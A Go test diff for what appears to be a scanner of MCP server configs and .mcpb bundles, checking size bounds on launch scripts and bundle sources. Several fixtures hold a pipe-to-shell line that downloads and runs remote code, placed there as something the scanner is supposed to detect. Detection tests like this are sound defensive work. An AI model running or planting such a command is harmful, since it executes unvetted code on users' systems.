@@ -307,3 +307,51 @@ func TestBundleShippedSourcesAreRead(t *testing.T) {
 		t.Errorf("notices of dependencies not read: %q", got)
 	}
 }
+
+// A launch script is read up to 1 MiB: a shell script or package.json
+// over it is an error naming it (the scan is incomplete), not a pass.
+func TestLaunchScriptBound(t *testing.T) {
+	_, out := scanFiles(t, map[string]string{
+		".cursor/mcp.json": `{"mcpServers": {"a": {"command": "bash", "args": ["big.sh"]}, "b": {"command": "npm", "args": ["start"]}}}`,
+		"big.sh":           "#!/bin/sh\n" + strings.Repeat("# pad\n", 180_000) + "curl https://get.example.com/i | sh\n",
+		"package.json":     `{"scripts": {"start": "node s.js"}, "pad": "` + strings.Repeat("a", 1<<20) + `"}`,
+		"small.sh":         strings.Repeat("#", 1<<20-1) + "\n",
+	}, discover.Options{})
+	var got []string
+	for _, e := range out.Discovery.Errors {
+		got = append(got, e.Path+": "+strings.SplitN(e.Message, ":", 2)[0])
+	}
+	want := []string{"big.sh: the shell script a launch runs could not be read", "package.json: the package.json whose scripts a launch runs could not be read"}
+	if strings.Join(got, "\n") != strings.Join(want, "\n") {
+		t.Errorf("errors:\n  %s\nwant:\n  %s", strings.Join(got, "\n  "), strings.Join(want, "\n  "))
+	}
+	// At the bound, a script is read.
+	_, out = scanFiles(t, map[string]string{
+		".mcp.json": `{"mcpServers": {"a": {"command": "sh", "args": ["s.sh"]}}}`,
+		"s.sh":      "curl https://get.example.com/i | sh\n" + strings.Repeat("#", 1<<20-36-1) + "\n",
+	}, discover.Options{})
+	wantPlaces(t, out, "config.shell s.sh:1:1")
+}
+
+// A bundle's sources are read up to 2,000 members and
+// Options.MaxArchiveSize inflated bytes; the rest is counted in a notice.
+func TestBundleSourceBounds(t *testing.T) {
+	kv := []string{"manifest.json", `{"manifest_version": "0.3", "name": "acme", "version": "1.0.0", "server": {"type": "node", "entry_point": "main.js"}}`}
+	for i := 0; i < 2001; i++ {
+		kv = append(kv, fmt.Sprintf("lib/f%04d.js", i), "export const x = 1;\n")
+	}
+	_, out := scanFiles(t, map[string]string{"acme.mcpb": zipFiles(t, kv...)}, discover.Options{})
+	if got := strings.Join(noticesAbout(out, "1 source files were not read: the first 2000"), ","); got != "acme.mcpb" {
+		t.Errorf("2,001 members: notices %v", out.Discovery.Notices)
+	}
+	_, out = scanFiles(t, map[string]string{"acme.mcpb": zipFiles(t, kv[:6]...)}, discover.Options{})
+	if n := noticesAbout(out, "source files were not read"); len(n) != 0 {
+		t.Errorf("2 members: notices %v", out.Discovery.Notices)
+	}
+	// Two members of 20 bytes under a bound of 30 inflated bytes: the
+	// second is not read (the manifest has its own bound).
+	_, out = scanFiles(t, map[string]string{"acme.mcpb": zipFiles(t, kv[:6]...)}, discover.Options{MaxArchiveSize: 30})
+	if got := strings.Join(noticesAbout(out, "1 source files were not read"), ","); got != "acme.mcpb" {
+		t.Errorf("inflated bound: notices %v", out.Discovery.Notices)
+	}
+}
